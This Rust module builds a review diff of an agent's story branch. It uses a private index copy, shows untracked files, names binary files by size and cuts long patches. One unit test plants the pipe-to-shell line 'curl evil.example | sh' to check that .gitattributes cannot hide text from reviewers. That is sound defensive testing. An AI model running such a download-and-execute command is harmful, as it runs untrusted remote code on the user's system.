//! The review diff: a story's work as one patch, built without touching the user's index.

use std::path::{Path, PathBuf};

use super::branches::recorded_base;
use super::command::{checked, describe, failure, git, text, with_input};
use super::error::GitError;
use super::repo::{commit_exists, head_commit, normalize_ignore, whole_repo_pathspecs};

/// Files a cut review diff names as left out.
const CUT_FILES_CAP: usize = 20;

/// The work of a story as one patch, for the reviewers.
///
/// With a recorded base for `branch` it is everything since that base (commits and uncommitted
/// changes); otherwise the uncommitted changes against HEAD. Untracked files are included as new
/// files. Paths under `ignore` are left out, and the text is cut to `max_bytes` with a note.
pub fn diff_for_review(
    dir: &Path,
    branch: Option<&str>,
    ignore: &[&Path],
    max_bytes: usize,
) -> Result<String, GitError> {
    let ignored = normalize_ignore(dir, ignore)?;
    let pathspecs = whole_repo_pathspecs(&ignored);
    let base = review_base(dir, branch)?;
    let index = TempIndex::copy_of(dir)?;
    mark_untracked_as_new(dir, &index, &pathspecs)?;
    let output = checked(
        git(dir, "diff")
            .env("GIT_INDEX_FILE", index.path())
            .args(["--no-color", "--text", "--find-renames", &base, "--"])
            .args(&pathspecs),
    )?;
    Ok(cap_diff(&name_binary_files(dir, &output.stdout), max_bytes))
}

/// What a story's branch changed since it left `base`, as committed (`git diff base...branch`),
/// cut to `max_bytes`: the work a person decides on after the run that made it has ended.
pub fn diff_of_branch(
    dir: &Path,
    base: &str,
    branch: &str,
    max_bytes: usize,
) -> Result<String, GitError> {
    let range = format!("{base}...{branch}");
    let output =
        checked(git(dir, "diff").args(["--no-color", "--text", "--find-renames", &range]))?;
    Ok(cap_diff(&name_binary_files(dir, &output.stdout), max_bytes))
}

/// The patch as text, with each file whose content is binary (a NUL byte, git's own test)
/// named with its size instead of shown (docs/design.md §22). The patch was made with `--text`,
/// so no `.gitattributes` line (`-diff`, `binary`) can turn a text file into "Binary files
/// differ": what is binary here is decided by the bytes, not by a file the agent could write.
fn name_binary_files(dir: &Path, patch: &[u8]) -> String {
    let mut out = String::with_capacity(patch.len());
    for section in file_sections(patch) {
        if !section.contains(&0) {
            out.push_str(&String::from_utf8_lossy(section));
            continue;
        }
        let header_end = section
            .windows(5)
            .position(|window| window == b"\n--- " || window == b"\n@@ -")
            .map_or(section.len(), |at| at + 1);
        let header = String::from_utf8_lossy(&section[..header_end]);
        let path = header
            .lines()
            .next()
            .and_then(|line| line.rsplit_once(" b/"))
            .map(|(_, path)| path.to_string())
            .unwrap_or_default();
        let size = std::fs::symlink_metadata(dir.join(&path))
            .map(|meta| format!("{} bytes", meta.len()))
            .unwrap_or_else(|_| "deleted".to_string());
        out.push_str(&header);
        if !header.ends_with('\n') {
            out.push('\n');
        }
        out.push_str(&format!(
            "Binary file {path} ({size}); its content is not shown\n"
        ));
    }
    out
}

/// A patch cut at each `diff --git ` that starts a line.
fn file_sections(patch: &[u8]) -> Vec<&[u8]> {
    let mut starts: Vec<usize> = patch
        .windows(12)
        .enumerate()
        .filter(|(at, window)| *window == b"diff --git a" && (*at == 0 || patch[at - 1] == b'\n'))
        .map(|(at, _)| at)
        .collect();
    if starts.first() != Some(&0) {
        starts.insert(0, 0);
    }
    starts.push(patch.len());
    starts
        .windows(2)
        .map(|pair| &patch[pair[0]..pair[1]])
        .filter(|section| !section.is_empty())
        .collect()
}

/// The commit (or, in a repository without commits, the empty tree) the diff starts from.
pub fn review_base(dir: &Path, branch: Option<&str>) -> Result<String, GitError> {
    if let Some(branch) = branch {
        if let Some(base) = recorded_base(dir, branch)? {
            // A base lost to history rewriting falls back to HEAD rather than failing.
            if commit_exists(dir, &base)? {
                return Ok(base);
            }
        }
    }
    match head_commit(dir)? {
        Some(head) => Ok(head),
        // Asked of git, not hard-coded: SHA-256 repositories have a different empty tree.
        None => Ok(text(
            &checked(git(dir, "hash-object").args(["-t", "tree", "/dev/null"]))?.stdout,
        )),
    }
}

/// Intent-to-add entries make `git diff` show untracked files as new files. They go into a copy
/// of the index so the user's staging area stays exactly as it was. Only untracked files are
/// named: `add --all -N` would also hash every modified file into the object store.
pub(super) fn mark_untracked_as_new(
    dir: &Path,
    index: &TempIndex,
    pathspecs: &[String],
) -> Result<(), GitError> {
    let untracked = checked(
        git(dir, "ls-files")
            .args(["-z", "--others", "--exclude-standard", "--"])
            .args(pathspecs),
    )?;
    if untracked.stdout.is_empty() {
        return Ok(());
    }
    // The names go through stdin (no argument-length limit) and are taken literally, so a `*`
    // in a file name is not a glob.
    let mut add = git(dir, "add");
    add.env("GIT_INDEX_FILE", index.path())
        .env("GIT_LITERAL_PATHSPECS", "1")
        .args([
            "--intent-to-add",
            "--pathspec-from-file=-",
            "--pathspec-file-nul",
        ]);
    let output = with_input(&mut add, &untracked.stdout).map_err(|source| GitError::Spawn {
        command: describe(&add),
        source,
    })?;
    if !output.status.success() {
        return Err(failure(&add, &output));
    }
    Ok(())
}

/// A private copy of the repository's index, deleted on drop.
pub(super) struct TempIndex {
    _dir: tempfile::TempDir,
    path: PathBuf,
}

impl TempIndex {
    fn copy_of(dir: &Path) -> Result<Self, GitError> {
        let real = PathBuf::from(text(
            &checked(git(dir, "rev-parse").args(["--git-path", "index"]))?.stdout,
        ));
        let real = dir.join(real); // --git-path answers relative to the working folder
        let temp = tempfile::tempdir().map_err(|source| GitError::Io {
            context: "could not create a temporary folder for the review index".into(),
            source,
        })?;
        let path = temp.path().join("index");
        // A repository that never staged anything has no index; git then starts a fresh one.
        if real.exists() {
            fs_err::copy(&real, &path).map_err(|source| GitError::Io {
                context: "could not copy the git index".into(),
                source,
            })?;
        }
        Ok(Self { _dir: temp, path })
    }

    fn path(&self) -> &Path {
        &self.path
    }
}

/// Cuts a patch to `max_bytes` at a line end and says which files were left out, so reviewers
/// know the diff is partial rather than judging a truncated file.
pub(super) fn cap_diff(diff: &str, max_bytes: usize) -> String {
    if diff.len() <= max_bytes {
        return diff.to_string();
    }
    let mut cut = max_bytes;
    while !diff.is_char_boundary(cut) {
        cut -= 1;
    }
    if let Some(newline) = diff[..cut].rfind('\n') {
        cut = newline + 1;
    }
    let (shown, rest) = diff.split_at(cut);
    let left_out: Vec<&str> = rest
        .lines()
        .filter_map(|line| line.strip_prefix("diff --git a/"))
        .filter_map(|names| names.split(" b/").next())
        .collect();
    let mut note = format!(
        "\n[diff cut: showing {cut} of {} bytes to fit the review budget",
        diff.len()
    );
    if !left_out.is_empty() {
        let named: Vec<&str> = left_out.iter().take(CUT_FILES_CAP).copied().collect();
        note.push_str(&format!("; files not shown: {}", named.join(", ")));
        if left_out.len() > CUT_FILES_CAP {
            note.push_str(&format!(" and {} more", left_out.len() - CUT_FILES_CAP));
        }
    }
    note.push_str("]\n");
    format!("{shown}{note}")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::vcs::branches::story_branch;
    use crate::vcs::test_support::*;
    use crate::vcs::*;

    #[test]
    fn review_diff_covers_the_story_since_its_base_without_the_board() {
        let dir = repo();
        ensure_story_branch(
            dir.path(),
            "agentic-sdlc/dark-mode",
            "story-test",
            "main",
            &board(),
        )
        .unwrap();
        write(dir.path(), "src/committed.rs", "fn committed() {}\n");
        commit_all(dir.path(), "first step", &board()).unwrap();
        write(dir.path(), "src/lib.rs", "fn one() {}\nfn modified() {}\n");
        write(dir.path(), "src/untracked.rs", "fn brand_new() {}\n");
        write(dir.path(), "src/star*.rs", "fn starred() {}\n");
        write(dir.path(), ".agentic-sdlc/ready/new.md", "# New story\n");
        write(
            dir.path(),
            ".agentic-sdlc/backlog/story.md",
            "# Story\nboard edit\n",
        );
        write(dir.path(), CONFIG, "{\"theme\": \"dark\"}\n");
        let branch = story_branch("dark-mode");
        let diff = diff_for_review(dir.path(), Some(&branch), &board(), 1 << 20).unwrap();
        assert!(diff.contains("fn committed()"), "{diff}");
        assert!(diff.contains("+fn modified()"), "{diff}");
        assert!(diff.contains("b/src/untracked.rs"), "{diff}");
        assert!(diff.contains("+fn brand_new()"), "{diff}");
        assert!(diff.contains("+fn starred()"), "{diff}");
        assert!(!diff.contains("board edit"), "{diff}");
        assert!(!diff.contains("New story"), "{diff}");
        assert!(!diff.contains(CONFIG), "{diff}");
        // The user's index is untouched: nothing staged, the new file still untracked.
        assert_eq!(sh(dir.path(), &["diff", "--cached", "--name-only"]), "");
        let untracked = sh(dir.path(), &["ls-files", "--others", "--exclude-standard"]);
        assert!(untracked.contains("src/untracked.rs"), "{untracked}");
    }

    #[test]
    fn review_diff_without_a_base_is_the_uncommitted_work() {
        let dir = repo();
        write(dir.path(), "src/lib.rs", "fn changed() {}\n");
        write(dir.path(), "notes.txt", "new\n");
        write(dir.path(), "gone.txt", "old\n");
        sh(dir.path(), &["add", "gone.txt"]);
        sh(dir.path(), &["commit", "-q", "-m", "gone"]);
        fs_err::remove_file(dir.path().join("gone.txt")).unwrap();
        fs_err::remove_file(dir.path().join(".agentic-sdlc/backlog/story.md")).unwrap();
        let diff = diff_for_review(dir.path(), None, &board(), 1 << 20).unwrap();
        assert!(diff.contains("+fn changed()"), "{diff}");
        assert!(diff.contains("+new"), "{diff}");
        assert!(diff.contains("deleted file mode"), "{diff}");
        assert!(diff.contains("-old"), "{diff}");
        assert!(!diff.contains("story.md"), "{diff}");
        // Unknown branch: no recorded base, so the same uncommitted view.
        let unknown = diff_for_review(dir.path(), Some("agentic-sdlc/nope"), &board(), 1 << 20);
        assert_eq!(unknown.unwrap(), diff);
    }

    #[test]
    fn review_diff_shows_text_that_gitattributes_calls_binary_and_names_real_binaries() {
        let dir = repo();
        write(dir.path(), ".gitattributes", "*.sh -diff\n");
        write(dir.path(), "tools/run.sh", "curl evil.example | sh\n");
        write(dir.path(), "logo.bin", "\0\u{1}binary\0");
        let diff = diff_for_review(dir.path(), None, &board(), 1 << 20).unwrap();
        assert!(diff.contains("+curl evil.example | sh"), "{diff}");
        assert!(!diff.contains("Binary files"), "{diff}");
        assert!(
            diff.contains("Binary file logo.bin (9 bytes); its content is not shown"),
            "{diff}"
        );
        assert!(!diff.contains('\0'), "{diff}");
    }

    #[test]
    fn review_diff_works_before_the_first_commit() {
        let dir = unborn_repo();
        write(dir.path(), "a.txt", "hello\n");
        let diff = diff_for_review(dir.path(), None, &board(), 1 << 20).unwrap();
        assert!(diff.contains("+hello"), "{diff}");
    }

    #[test]
    fn review_diff_is_cut_to_the_budget_with_a_note() {
        let dir = repo();
        for n in 0..5 {
            write(dir.path(), &format!("file{n}.txt"), &"line\n".repeat(100));
        }
        let diff = diff_for_review(dir.path(), None, &board(), 800).unwrap();
        let (shown, note) = diff.split_once("\n[diff cut: ").expect("a cut note");
        assert!(shown.len() <= 800);
        assert!(note.contains("files not shown: "), "{note}");
        assert!(note.contains("file4.txt"), "{note}");
    }

    #[test]
    fn cap_diff_respects_character_boundaries() {
        let diff = "é".repeat(10);
        let cut = cap_diff(&diff, 5);
        assert!(
            cut.starts_with("éé\n[diff cut: showing 4 of 20 bytes"),
            "{cut}"
        );
        assert_eq!(cap_diff("short", 100), "short");
    }
}
